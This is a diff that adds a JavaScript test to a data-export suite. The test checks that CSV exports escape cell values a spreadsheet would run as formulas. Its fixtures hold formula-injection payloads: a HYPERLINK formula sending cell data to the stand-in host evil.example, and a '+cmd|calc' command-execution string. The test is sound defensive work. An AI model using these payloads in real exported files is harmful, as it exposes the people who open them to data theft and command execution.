@@ -412,6 +412,25 @@ describe('every export writes each field as the JSON API does', () => {
     ).toEqual(['2023']);
   });
 
+  it('puts an apostrophe before text a spreadsheet would run as a formula', async () => {
+    const { id } = await make.partner({ nameEn: '=HYPERLINK("https://evil.example/?"&A1)' });
+    await make.activity(id, {
+      titleEn: '+cmd|calc',
+      leads: ['@SUM(A1)', 'Prof. B'],
+      links: [{ label: '-2 links', url: 'https://example.org' }],
+    });
+    await make.mobility(id, { programme: '=1+1', note: 'Ordinary note' });
+    const [activity] = await download('/exports/activities.csv', { partnerId: id });
+    expect(activity).toMatchObject({
+      titleEn: "'+cmd|calc",
+      leads: "'@SUM(A1); Prof. B",
+      links: "'-2 links <https://example.org>",
+      partnerNameEn: `'=HYPERLINK("https://evil.example/?"&A1)`,
+    });
+    const [mobility] = await download('/exports/mobility.csv', { partnerId: id });
+    expect(mobility).toMatchObject({ programme: "'=1+1", note: 'Ordinary note' });
+  });
+
   it("funding, amounts with exactly their currency's decimals", async () => {
     const activity = await make.activity(partnerId);
     await make.funding(partnerId, { amount: '1500000', currency: 'JPY' });
